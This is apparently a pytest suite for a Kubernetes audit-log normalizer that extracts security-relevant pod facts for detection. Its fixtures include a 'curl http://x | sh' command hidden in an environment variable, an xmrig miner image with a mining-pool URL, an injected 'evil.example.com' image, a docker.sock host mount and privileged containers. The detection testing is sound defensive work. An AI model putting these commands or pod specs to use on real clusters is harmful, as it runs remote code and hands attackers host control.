"""PodFacts from every kind that carries a pod spec, and who it belongs to."""

from pathlib import Path

import pytest
import yaml
from records import event_of, facts_of, native

from leadsman_common.events import Flag
from leadsman_normalizer.facts.containers import container_facts

SPEC = {"hostNetwork": True, "containers": [{"name": "a", "image": "nginx"}]}
TEMPLATE = {"template": {"metadata": {"labels": {"app": "x"}}, "spec": SPEC}}
KINDS = {
    "Pod": ("pods", "", {"spec": SPEC}, "spec"),
    "PodTemplate": ("podtemplates", "", TEMPLATE, "template.spec"),
    "ReplicationController": ("replicationcontrollers", "", {"spec": TEMPLATE}, "spec.template.spec"),
    "Deployment": ("deployments", "apps", {"spec": TEMPLATE}, "spec.template.spec"),
    "ReplicaSet": ("replicasets", "apps", {"spec": TEMPLATE}, "spec.template.spec"),
    "StatefulSet": ("statefulsets", "apps", {"spec": TEMPLATE}, "spec.template.spec"),
    "DaemonSet": ("daemonsets", "apps", {"spec": TEMPLATE}, "spec.template.spec"),
    "Job": ("jobs", "batch", {"spec": TEMPLATE}, "spec.template.spec"),
    "CronJob": (
        "cronjobs",
        "batch",
        {"spec": {"jobTemplate": {"spec": TEMPLATE}}},
        "spec.jobTemplate.spec.template.spec",
    ),
}


@pytest.mark.parametrize(("kind", "given"), KINDS.items(), ids=KINDS.keys())
def test_every_kind(kind, given):
    resource, group, body, path = given
    event = event_of(native("create", resource, group=group, requestObject={"kind": kind, **body}))
    pod = event["facts"]["pod"]
    assert pod["kind"] == kind
    assert pod["template_path"] == path
    assert pod["host_network"]
    assert [c["image_suffix"] for c in pod["containers"]] == ["library/nginx"]
    assert (pod["owner_kind"], pod["owner_name"]) == (kind, "x")
    assert event["flags"] & Flag.HAS_POD
    assert event["facts"]["touched"] == ["*"]
    assert pod["labels"] == ({} if kind == "Pod" else {"app": "x"})


def test_three_lists_and_what_is_in_a_container():
    container = {
        "name": "m",
        "image": "reg.example.com/a/b:1",
        "command": ["sh", "-c", "sleep 1"],
        "args": ["--token=s3cr3t-canary"],
        "env": [
            {"name": "A", "value": "env-canary"},
            {"name": "B", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}},
        ],
        "ports": [{"containerPort": 80, "hostPort": 8080}],
        "lifecycle": {"postStart": {"exec": {"command": ["touch", "/x"]}}},
        "livenessProbe": {"exec": {"command": ["cat", "/y"]}},
        "stdin": True,
        "volumeMounts": [{"name": "v", "mountPath": "/v", "readOnly": True}],
        "securityContext": {
            "privileged": True,
            "allowPrivilegeEscalation": False,
            "runAsUser": 0,
            "procMount": "Unmasked",
            "capabilities": {"add": ["CAP_SYS_ADMIN", "all"], "drop": ["net_raw"]},
            "seccompProfile": {"type": "Unconfined"},
            "appArmorProfile": {"type": "Unconfined"},
            "windowsOptions": {"hostProcess": True},
        },
    }
    spec = {
        "containers": [container],
        "initContainers": [{"name": "i", "image": "i"}],
        "ephemeralContainers": [{"name": "e", "image": "e"}],
        "volumes": [
            {"name": "v", "hostPath": {"path": "/var/run/docker.sock/", "type": "Socket"}},
            {"name": "w", "emptyDir": {}},
        ],
        "hostPID": True,
        "hostIPC": False,
        "shareProcessNamespace": True,
        "hostUsers": False,
        "nodeName": "n1",
        "serviceAccountName": "sa",
        "automountServiceAccountToken": False,
        "securityContext": {"runAsUser": 5, "seccompProfile": {"type": "RuntimeDefault"}},
    }
    event = event_of(
        native("create", "pods", requestObject={"kind": "Pod", "metadata": {"labels": {"a": "b"}}, "spec": spec})
    )
    pod = event["facts"]["pod"]
    main = pod["containers"][0]
    assert [c["list"] for c in pod["containers"]] == ["main", "init", "ephemeral"]
    assert main["caps_add"] == ["SYS_ADMIN", "ALL"]
    assert main["caps_drop"] == ["NET_RAW"]
    assert (main["privileged"], main["allow_priv_esc"], main["run_as_user"]) == (True, False, 0)
    assert (main["proc_mount"], main["seccomp"], main["apparmor"]) == ("Unmasked", "Unconfined", "Unconfined")
    assert main["host_process"]
    assert main["ports"] == [{"container": 80, "host": 8080, "proto": "TCP"}]
    assert [h["which"] for h in main["hooks"]] == ["postStart", "livenessProbe"]
    assert main["env_refs"] == ["A", "B"]
    assert {"sleep 1 --token=***" in main["command_text"], "touch /x" in main["command_text"]} == {True}
    assert (pod["host_pid"], pod["host_ipc"], pod["share_process_ns"], pod["host_users"]) == (True, False, True, False)
    assert (pod["node_name"], pod["service_account"], pod["automount"]) == ("n1", "sa", False)
    assert (pod["run_as_user"], pod["seccomp"], pod["stdin"]) == (5, "RuntimeDefault", True)
    host = pod["volumes"][0]
    assert (host["type"], host["host_path"], host["host_path_type"]) == ("hostPath", "/run/docker.sock", "Socket")
    assert (host["tier"], host["socket"], host["read_only"]) == ("high", True, True)
    assert pod["volumes"][1]["type"] == "emptyDir"
    assert "canary" not in repr(event)


OWNERS = [
    (
        "a Deployment's pod, by its label",
        "web-5d4f9c7b6d-abcde",
        "ReplicaSet",
        "web-5d4f9c7b6d",
        "5d4f9c7b6d",
        ("Deployment", "web"),
    ),
    (
        "a Deployment's pod, by its shape",
        "web-5d4f9c7b6d-abcde",
        "ReplicaSet",
        "web-5d4f9c7b6d",
        "",
        ("Deployment", "web"),
    ),
    ("a bare ReplicaSet's pod", "web-abcde", "ReplicaSet", "web", "", ("ReplicaSet", "web")),
    ("a ReplicaSet with a vowel at its end", "web-cache-x", "ReplicaSet", "web-cache", "", ("ReplicaSet", "web-cache")),
    ("a CronJob's pod", "x-28512345-abcde", "Job", "x-28512345", "", ("CronJob", "x")),
    ("a Job's pod", "load-abcde", "Job", "load", "", ("Job", "load")),
    ("a DaemonSet's pod", "ds-abcde", "DaemonSet", "ds", "", ("DaemonSet", "ds")),
    ("a StatefulSet's pod", "db-0", "StatefulSet", "db", "", ("StatefulSet", "db")),
    ("a static pod", "etcd-n1", "Node", "n1", "", ("Pod", "etcd-n1")),  # no workload stands behind it
]


@pytest.mark.parametrize(
    ("name", "kind", "owner", "label", "wanted"), [c[1:] for c in OWNERS], ids=[c[0] for c in OWNERS]
)
def test_a_pods_outermost_owner(name, kind, owner, label, wanted):
    metadata = {
        "name": name,
        "labels": {"pod-template-hash": label} if label else {},
        "ownerReferences": [{"kind": kind, "name": owner, "uid": "u", "controller": True}],
    }
    pod = facts_of("create", "pods", {"kind": "Pod", "metadata": metadata, "spec": SPEC}, ref={"name": name})["pod"]
    assert (pod["owner_kind"], pod["owner_name"]) == wanted
    workload = [{"kind": kind, "name": owner, "uid": "u", "controller": True}]
    assert pod["owners"] == (workload if kind != "Node" else [])


@pytest.mark.parametrize(
    ("resource", "group", "owner", "wanted"),
    [
        ("replicasets", "apps", ("Deployment", "web"), ("Deployment", "web")),
        ("jobs", "batch", ("CronJob", "x"), ("CronJob", "x")),
    ],
)
def test_a_childs_owner_is_its_parent(resource, group, owner, wanted):
    metadata = {"name": "child-1", "ownerReferences": [{"kind": owner[0], "name": owner[1], "controller": True}]}
    pod = facts_of("create", resource, {"metadata": metadata, "spec": TEMPLATE}, group=group)["pod"]
    assert (pod["owner_kind"], pod["owner_name"]) == wanted


def test_a_nameless_create_goes_by_generate_name_and_by_the_response():
    body = {"kind": "Pod", "metadata": {"generateName": "run-"}, "spec": SPEC}
    given = native("create", "pods", requestObject=body, ref={"name": ""})
    assert event_of(given)["facts"]["pod"]["owner_name"] == "run"
    stored = {**body, "metadata": {"generateName": "run-", "name": "run-7xk2p", "uid": "u1", "resourceVersion": "7"}}
    event = event_of({**given, "responseObject": stored})
    assert event["facts"]["pod"]["owner_name"] == "run-7xk2p"
    assert (event["objectRef"]["name"], event["objectRef"]["uid"], event["objectRef"]["resourceVersion"]) == (
        "run-7xk2p",
        "u1",
        "7",
    )


def test_ephemeral_containers_both_ways():
    debugger = {"name": "d", "image": "busybox", "securityContext": {"capabilities": {"add": ["SYS_PTRACE"]}}}
    for body in (
        {"spec": {"ephemeralContainers": [debugger]}},
        {"kind": "EphemeralContainers", "ephemeralContainers": [debugger]},
    ):
        facts = facts_of("patch", "pods", body, ref={"subresource": "ephemeralcontainers"})
        assert [(c["list"], c["image_name"]) for c in facts["pod"]["containers"]] == [("ephemeral", "busybox")]
        assert "pod.containers.caps_add" in facts["touched"]


CUSTOM = {
    "Argo workflow": (
        {"spec": {"hostNetwork": True, "templates": [{"container": {"image": "xmrig/xmrig", "command": ["xmrig"]}}]}},
        ["xmrig"],
        True,
    ),
    "Argo script": (
        {"spec": {"templates": [{"script": {"image": "python", "source": "print(1)"}}]}},
        ["python"],
        False,
    ),
    "Tekton task": ({"spec": {"steps": [{"image": "golang", "script": "make"}]}}, ["golang"], False),
    "Rollout": ({"spec": {"template": {"spec": {"hostNetwork": True, "containers": [{"image": "a/b"}]}}}}, ["b"], True),
    "Knative": ({"spec": {"template": {"spec": {"containers": [{"image": "a/c"}]}}}}, ["c"], False),
}


@pytest.mark.parametrize(("body", "images", "host"), CUSTOM.values(), ids=CUSTOM.keys())
def test_custom_resources(body, images, host):
    pod = facts_of("create", "things", {"kind": "Thing", **body}, group="example.com")["pod"]
    assert [c["image_name"] for c in pod["containers"]] == images
    assert pod["host_network"] is host
    assert (pod["kind"], pod["owner_kind"]) == ("Thing", "Thing")


def test_a_custom_resource_without_containers_has_no_pod():
    assert (
        facts_of("create", "widgets", {"kind": "Widget", "spec": {"hostNetwork": "enabled"}}, group="example.com")
        is None
    )


@pytest.mark.parametrize("subresource", ["status", "binding", "eviction", "log"])
def test_subresources_without_a_spec_have_no_facts(subresource):
    assert facts_of("update", "pods", {"kind": "Pod", "spec": SPEC}, ref={"subresource": subresource}) is None


def test_wrong_types_are_null_facts_and_reasons():
    body = {"spec": {"hostNetwork": "true", "containers": {"image": "x"}, "volumes": [1], "securityContext": []}}
    event = event_of(native("create", "pods", requestObject=body))
    assert not event["facts"]["pod"]["host_network"]
    assert event["facts"]["pod"]["containers"] == []
    assert set(event["coverage"]["reasons"]) >= {
        "hostNetwork: no boolean",
        "containers: no list",
        "volumes: an item is no object",
        "securityContext: no object",
    }


@pytest.mark.parametrize("wrong", [True, 1, 1.5, "x", {"a": 1}, [None], [[]], [1, "x"]], ids=repr)
@pytest.mark.parametrize("key", ["containers", "initContainers", "volumes", "securityContext", "nodeName"])
def test_any_wrong_type_in_a_spec_is_a_reason(key, wrong):
    event = event_of(native("create", "pods", requestObject={"spec": {"containers": [], key: wrong}}))
    right = isinstance(wrong, str if key == "nodeName" else dict if key == "securityContext" else ())
    assert bool(event["coverage"]["reasons"]) is not right


@pytest.mark.parametrize("wrong", [True, 1, "x", {"a": 1}, [None], [1]], ids=repr)
@pytest.mark.parametrize("key", ["command", "args", "volumeMounts", "ports", "env", "lifecycle", "securityContext"])
def test_any_wrong_type_in_a_container_is_a_reason(key, wrong):
    body = {"spec": {"containers": [{"image": "x", key: wrong}]}}
    event = event_of(native("create", "pods", requestObject=body))
    right = isinstance(wrong, dict) and key in ("lifecycle", "securityContext")
    assert bool(event["coverage"]["reasons"]) is not right


def test_the_response_is_read_first_then_the_request():
    asked, stored = {"kind": "Pod", "spec": {"containers": []}}, {"kind": "Pod", "metadata": {}, "spec": SPEC}
    refused = {"kind": "Status", "status": "Failure", "code": 403}
    event = event_of(native("create", "pods", requestObject=asked, responseObject=stored))
    assert (event["coverage"]["body"], event["facts"]["pod"]["host_network"]) == ("response", True)
    event = event_of(
        native("create", "pods", requestObject=stored, responseObject=refused, responseStatus={"code": 403})
    )
    assert (event["coverage"]["body"], event["facts"]["pod"]["host_network"]) == ("request", True)
    assert not event["outcome"]["effective"]


def test_no_body_is_told_and_the_violations_stand_in():
    event = event_of(native("create", "pods", level="Metadata"))
    assert (event["coverage"]["body"], event["facts"]) == ("none", None)
    assert event["coverage"]["reasons"] == ["create pods: the log holds no body"]
    violations = {
        "pod-security.kubernetes.io/audit-violations": 'would violate PodSecurity "baseline:latest": privileged'
    }
    event = event_of(native("create", "pods", level="Metadata", annotations=violations))
    assert "privileged" in event["facts"]["pod"]["psa_violations"]
    assert event["coverage"]["body"] == "none"


def test_variables_that_hide_a_command_are_read_and_secrets_are_not():
    container = {
        "image": "alpine",
        "command": ["sh", "-c", "$(RUN)"],
        "args": ["$(API_TOKEN)"],
        "env": [{"name": "RUN", "value": "curl http://x | sh"}, {"name": "API_TOKEN", "value": "canary /x"}],
    }
    text = facts_of("create", "pods", {"spec": {"containers": [container]}})["pod"]["containers"][0]["command_text"]
    assert "curl http://x | sh" in text
    assert "canary" not in text


def test_a_miners_settings_in_env_are_read():
    env = [{"name": "POOL", "value": "stratum+tcp://pool.example.org:3333"}, {"name": "OTHER", "value": "canary"}]
    text = facts_of("create", "pods", {"spec": {"containers": [{"image": "x", "env": env}]}})["pod"]["containers"][0]
    assert text["command_text"] == "env POOL=stratum+tcp://pool.example.org:3333"


def test_every_mining_pool_is_seen_in_the_environment():
    """A variable's value travels only where it is a miner's: the normalizer knows each domain of the rules' list."""
    listed = yaml.safe_load((Path(__file__).parents[3] / "rules/lists/mining-pools.yml").read_text())["values"]
    for domain in listed:
        container = {"name": "a", "image": "alpine", "env": [{"name": "POOL", "value": f"eu.{domain}:3333"}]}
        found = container_facts("main", container, {}, [])
        assert f"env POOL=eu.{domain}:3333" in found["command_text"], domain


def test_one_container_hidden_behind_many_is_read():
    decoys = [{"name": f"c{n}", "image": "nginx"} for n in range(300)]
    for last in ({"privileged": True}, {"capabilities": {"add": ["SYS_ADMIN"]}}, {"procMount": "Unmasked"}):
        spec = {"containers": [*decoys, {"name": "last", "image": "nginx", "securityContext": last}]}
        pod = facts_of("create", "pods", {"kind": "Pod", "metadata": {"name": "a"}, "spec": spec})["pod"]
        assert len(pod["containers"]) == 100
        assert "last" in {c["name"] for c in pod["containers"]}


def test_one_volume_hidden_behind_many_is_read():
    decoys = [{"name": f"v{n}", "emptyDir": {}} for n in range(600)]
    spec = {**SPEC, "volumes": [*decoys, {"name": "last", "hostPath": {"path": "/"}}]}
    pod = facts_of("create", "pods", {"kind": "Pod", "metadata": {"name": "a"}, "spec": spec})["pod"]
    assert len(pod["volumes"]) == 500
    assert "last" in {v["name"] for v in pod["volumes"]}


def test_one_operation_hidden_behind_many_is_read():
    decoys = [{"op": "test", "path": "/metadata/name", "value": "a"}] * 5000
    ops = [*decoys, {"op": "add", "path": "/spec/template/spec/hostNetwork", "value": True}]
    assert facts_of("patch", "deployments", ops, ref={"apiGroup": "apps"})["pod"]["host_network"]


# --- what webhooks made of it ---------------------------------------------------------------------------------------


def mutation(configuration, *, mutated=True):
    return f'{{"configuration":"{configuration}","webhook":"w.example.com","mutated":{str(mutated).lower()}}}'


@pytest.mark.parametrize(
    ("annotations", "found"),
    [
        ({}, []),
        ({"round_0_index_0": mutation("istio"), "round_0_index_1": mutation("evil")}, ["istio", "evil"]),
        ({"round_0_index_0": mutation("istio"), "round_1_index_0": mutation("istio")}, ["istio"]),
        ({"round_0_index_0": mutation("istio", mutated=False)}, []),
        ({"round_0_index_0": "no json", "round_0_index_1": "[]", "round_0_index_2": '{"mutated":true}'}, []),
    ],
)
def test_who_changed_a_pod_on_its_way(annotations, found):
    told = {f"mutation.webhook.admission.k8s.io/{key}": value for key, value in annotations.items()}
    event = event_of(native("create", "pods", requestObject={"kind": "Pod", "spec": SPEC}, annotations=told))
    assert event["facts"]["pod"]["mutated_by"] == found


@pytest.mark.parametrize("kind", ["Pod", "Deployment", "CronJob"])
@pytest.mark.parametrize("verb", ["create", "update", "patch"])
def test_images_that_nobody_asked_for(kind, verb):
    resource, group, body, path = KINDS[kind]
    stored = {"kind": kind, **yaml.safe_load(yaml.safe_dump(body))}
    spec = stored
    for key in path.split("."):
        spec = spec[key]
    spec["initContainers"] = [{"name": "b", "image": "evil.example.com/proxy:1"}]
    spec["containers"].append({"name": "c", "image": "nginx"})
    event = event_of(native(verb, resource, group=group, requestObject={"kind": kind, **body}, responseObject=stored))
    # a patch names only what it changes
    assert event["facts"]["pod"]["injected_images"] == ([] if verb == "patch" else ["evil.example.com/proxy:1"])


def test_without_both_bodies_nothing_is_injected():
    for bodies in (
        {"requestObject": {"kind": "Pod", "spec": SPEC}},
        {"responseObject": {"kind": "Pod", "spec": SPEC}},
        {"requestObject": {"kind": "Pod", "spec": "x"}, "responseObject": {"kind": "Pod", "spec": SPEC}},
        {
            "requestObject": {"kind": "Pod", "spec": {**SPEC, "initContainers": [{"image": []}, 5]}},
            "responseObject": {"kind": "Pod", "spec": SPEC},
        },
    ):
        assert event_of(native("create", "pods", **bodies))["facts"]["pod"]["injected_images"] == []


@pytest.mark.parametrize("key", ["image-policy.k8s.io/break-glass", "alpha.image-policy.k8s.io/break-glass"])
@pytest.mark.parametrize("where", ["labels", "annotations"])
def test_glass_broken(key, where):
    for value, broken in (("true", True), ("false", False)):
        metadata = {"metadata": {where: {key: value}}}
        pod = event_of(native("create", "pods", requestObject={"kind": "Pod", "spec": SPEC, **metadata}))
        assert pod["facts"]["pod"]["break_glass"] is broken
        template = {"spec": {"template": {**metadata, "spec": SPEC}}}
        made = event_of(native("create", "deployments", group="apps", requestObject={"kind": "Deployment", **template}))
        assert made["facts"]["pod"]["break_glass"] is broken
    other = {"metadata": {where: {"evilimage-policy.k8s.io/break-glass": "true"}}}
    pod = event_of(native("create", "pods", requestObject={"kind": "Pod", "spec": SPEC, **other}))
    assert pod["facts"]["pod"]["break_glass"] is False
